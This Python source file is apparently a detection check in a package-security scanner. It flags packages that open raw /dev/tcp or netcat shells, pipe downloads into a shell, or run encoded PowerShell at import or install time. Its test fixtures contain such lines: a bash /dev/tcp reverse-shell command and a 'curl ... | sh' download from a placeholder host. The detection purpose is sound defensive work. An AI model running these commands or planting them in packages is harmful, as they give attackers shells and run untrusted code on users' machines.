"""Does the package run a command line that hardly any honest program needs?

Raw shell connections, decoded text piped into a shell, downloads started at once, hidden or encoded PowerShell.

Remedy: do not install. Report the release to its index.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from gatekeeper.checks._facts import USED, Says, does, example, mark, marks, pick, shown
from gatekeeper.model import UNASKED, Behaviour, Confidence, Evidence, Finding, Severity, When

if TYPE_CHECKING:
    from collections.abc import Iterator

ATTACK = ("T1059", "T1195.001", "T1105")
REMOTE_SHELLS = frozenset({"dev-tcp", "interactive-shell", "netcat-exec"})
hits = (
    example(
        does(
            "spawn",
            "bash -c 'exec 3<>/dev/tcp/192.0.2.1/9'",
            When.IMPORT,
            "",
            mark("dev-tcp", "pattern", Severity.CRITICAL),
        )
    ),
    example(
        does(
            "write-script",
            "curl http://files.example/a | sh",
            When.INSTALL,
            "",
            mark("download-pipe-shell", "pattern", Severity.CRITICAL),
        )
    ),
)
misses = (
    example(does("spawn", "python -c pass", When.INSTALL, "", mark("interpreter-line", "fact", Severity.NOTE))),
    example(
        does(
            "spawn",
            "curl http://files.example/a | sh",
            When.CALL,
            "",
            mark("download-pipe-shell", "pattern", Severity.CRITICAL),
        )
    ),
)
say = Says(__name__, ATTACK)


def find(evidence: Evidence) -> Iterator[Finding]:
    """Yield a finding for each such command line."""
    for one in pick(evidence, "spawn", "write-script", when=UNASKED | USED):
        for pattern in marks(one, "pattern"):
            severity, confidence = weight(one, pattern.severity, pattern.id)
            if severity > Severity.NOTE:
                yield say.of(one, severity, confidence, f"{pattern.reason}: {shown(one.detail)}")


def weight(behaviour: Behaviour, severity: Severity, pattern: str) -> tuple[Severity, Confidence]:
    """Return how much a pattern weighs: less in code that somebody has to call, unless it is a remote shell."""
    if behaviour.when in UNASKED:
        return severity, Confidence.HIGH if severity >= Severity.HIGH else Confidence.MEDIUM
    return (Severity.HIGH, Confidence.MEDIUM) if pattern in REMOTE_SHELLS else (Severity.NOTE, Confidence.LOW)
